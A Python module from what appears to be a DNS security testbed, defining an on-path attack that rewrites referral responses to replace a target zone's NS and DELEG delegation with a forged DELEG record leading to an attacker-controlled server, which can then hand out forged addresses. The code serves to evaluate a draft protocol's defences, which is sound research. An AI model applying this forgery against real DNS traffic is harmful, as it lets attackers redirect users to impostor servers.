"""Puts DELEG records into a referral that lead to the attacker's server; NS does not count beside them."""

from collections.abc import Iterable
from typing import Literal

import dns.name
import dns.rdatatype
import dns.rrset
from pydantic import Field

from testbed.attack.api import Capability, MessageAction, Replace, Response, Rewriter, RewriterParameters
from testbed.core.deleg import DELEG, Record
from testbed.core.zone import Zone

TTL = 3600


class InjectDelegParameters(RewriterParameters):
    """What the forged record says, and what the attacker's server then answers."""

    transports: Literal["encrypted", "do53"] = Field(
        "encrypted",
        description="encrypted: the record lists DoT, for which the attacker has a certificate of its own. "
        "do53: it lists nothing.",
    )
    answers: Literal["copied", "forged"] = Field(
        "copied",
        description="copied: the attacker's server hands out a true copy of the zone. forged: another "
        "address for the sensitive name.",
    )


class InjectDeleg(Rewriter):
    """Forges a DELEG delegation of the target zone, in place of whichever there is."""

    capability = Capability.ON_PATH
    source = "draft-ietf-dnsop-delext section 8.3"
    position = "the link of a parent"
    Parameters = InjectDelegParameters
    parameters: InjectDelegParameters

    def response(self, response: Response) -> MessageAction:
        """Forge the referral to the target zone."""
        message = response.message
        delegation = (dns.rdatatype.NS, DELEG)
        if not any(self._of_target(rrset, delegation) for rrset in message.authority):
            return None
        self.matched()
        alpn = ("dot",) if self.parameters.transports == "encrypted" else ()
        record = Record(names=(self.scene.own_name,), alpn=alpn)
        forged = dns.rrset.from_rdata(self.scene.target_zone, TTL, record.rdata())
        kept = (rrset for rrset in message.authority if not self._of_target(rrset, delegation))
        message.authority[:] = [forged, *kept]
        return Replace(message)

    def _of_target(self, rrset: dns.rrset.RRset, types: Iterable[dns.rdatatype.RdataType]) -> bool:
        return rrset.name == self.scene.target_zone and bool({rrset.rdtype, rrset.covers}.intersection(types))

    def serves(self) -> Iterable[Zone]:
        """The target zone."""
        if self.parameters.answers == "forged":
            yield self.scene.target_led_away()
        else:
            yield self.scene.zones[self.scene.target_zone]
